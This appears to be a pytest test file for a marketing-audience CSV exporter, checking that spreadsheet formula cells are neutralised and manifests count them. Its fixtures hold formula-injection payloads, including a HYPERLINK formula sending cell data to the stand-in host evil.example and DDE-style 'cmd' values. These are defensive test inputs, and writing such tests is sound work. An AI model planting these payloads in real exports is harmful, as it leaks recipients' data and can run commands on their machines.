"""The audience file writer (orchestration/lib/exports.py) on a hand-made
warehouse: spreadsheet formulas neutralised, identifiers whole, the manifest
counting what was neutralised."""

from __future__ import annotations

import csv
import json

import duckdb
import pytest

from orchestration.lib import exports

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture()
def warehouse(tmp_path):
    path = tmp_path / "build.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute("create schema marts; create schema traits")
        con.execute("create table traits.int_as_of_date as select date '2026-11-22' as as_of_date")
        con.execute("create table marts.exp_audience_email (segment_key varchar, profile_id varchar, email varchar)")
        con.execute("insert into marts.exp_audience_email values ('champions', 'p1', '@SUM(1+1)*cmd|x@evil.vn'), "
                    "('champions', 'p2', 'an@example.vn')")
        con.execute("create table marts.exp_audience_sms (segment_key varchar, profile_id varchar, phone varchar)")
        con.execute("insert into marts.exp_audience_sms values ('champions', 'p2', '+84912345678'), "
                    "('champions', 'p3', '+2+5@cmd')")
        con.execute("create table marts.exp_audience_zalo (segment_key varchar, profile_id varchar, "
                    "zalo_user_id varchar, phone varchar)")
        con.execute("insert into marts.exp_audience_zalo values (?, 'p1', ?, null), "
                    "('champions', 'p2', '1234,5678', null), ('champions', 'p4', e'\\tz9', null)",
                    ["champions", HYPERLINK])
        con.execute("create table marts.exp_audience_ads (segment_key varchar, profile_id varchar, "
                    "email_sha256 varchar, phone_sha256 varchar)")
        con.execute("""
            create table marts.rpt_audience_export_manifest as
            select 'champions:' || channel as audience_export_id, date '2026-11-22' as run_date,
                   'champions' as segment_key, channel, 'marketing_' || channel as consent_purpose,
                   cast(3 as bigint) as audience_size, cast(2 as bigint) as exported_rows,
                   channel || '/champions.csv' as segment_file
            from (values ('ads'), ('email'), ('sms'), ('zalo')) t(channel)
        """)
    return path


def _rows(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_formula_cells_are_neutralised_and_identifiers_whole(warehouse, tmp_path):
    report = exports.write_exports(warehouse, tmp_path / "exports")
    folder = tmp_path / "exports" / "2026-11-22"
    assert report.folder == folder
    zalo = _rows(folder / "zalo" / "champions.csv")
    # Worked by hand: a leading `'` before =, @, +/- formulas and a tab; the comma stays inside one cell.
    assert zalo == [["segment_key", "profile_id", "zalo_user_id", "phone"],
                    ["champions", "p1", "'" + HYPERLINK, ""],
                    ["champions", "p2", "1234,5678", ""],
                    ["champions", "p4", "'\tz9", ""]]
    assert _rows(folder / "email" / "champions.csv")[1:] == [["champions", "p1", "'@SUM(1+1)*cmd|x@evil.vn"],
                                                           ["champions", "p2", "an@example.vn"]]
    # An E.164 phone is a number, not a formula: kept as it is; anything else after `+` is not.
    assert _rows(folder / "sms" / "champions.csv")[1:] == [["champions", "p2", "+84912345678"],
                                                         ["champions", "p3", "'+2+5@cmd"]]
    assert _rows(folder / "audience_zalo.csv")[1][2] == "'" + HYPERLINK
    manifest = {row["channel"]: row for row in csv.DictReader(open(folder / "manifest.csv", encoding="utf-8"))}
    assert {channel: int(row["neutralized_cells"]) for channel, row in manifest.items()} == {
        "ads": 0, "email": 1, "sms": 1, "zalo": 2}
    as_json = json.loads((folder / "manifest.json").read_text())
    assert [(row["channel"], row["neutralized_cells"], row["run_date"]) for row in as_json] == [
        ("ads", 0, "2026-11-22"), ("email", 1, "2026-11-22"), ("sms", 1, "2026-11-22"), ("zalo", 2, "2026-11-22")]
    # The Parquet file keeps the values as the warehouse holds them.
    with duckdb.connect() as con:
        parquet = con.execute(f"select zalo_user_id from read_parquet('{folder}/audience_zalo.parquet') "
                              "order by profile_id").fetchall()
    assert parquet == [(HYPERLINK,), ("1234,5678",), ("\tz9",)]
    assert report.neutralized == 4  # counted once, in the long files (each row is in one segment file too)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", ("'=1+1", True)), ("-2", ("'-2", True)), ("\rx", ("'\rx", True)), ("+84901234567", ("+84901234567", False)),
    ("a=b", ("a=b", False)), (None, ("", False)), (42, ("42", False)),
])
def test_safe_cell(value, expected):
    assert exports.safe_cell(value) == expected
